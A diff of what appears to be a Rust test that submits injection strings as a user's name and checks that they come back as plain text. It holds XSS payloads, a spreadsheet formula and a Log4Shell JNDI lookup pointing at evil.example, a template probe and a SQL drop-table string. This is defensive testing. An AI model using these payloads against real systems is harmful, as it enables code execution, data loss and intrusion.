@@ -72,7 +72,7 @@ on_both_engines! {
     /// Texts that are something else to whoever reads them next: they come back as texts.
     fn texts_on_their_way_out(world: World) {
         let texts = ["<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>", "=HYPERLINK(\"http://evil.example\")", "${jndi:ldap://evil.example/x}",
-            "{{7*7}}", "'; drop table users; --", "\u{2028}BEGIN:VEVENT"];
+            "{{7*7}}", "'; drop table users; --"];
         for text in texts {
             let body = json!({"name": {"ar": text}, "country": "SD", "confirm_new": true});
             let reply = world.a.contributor.post(READ, body).send();
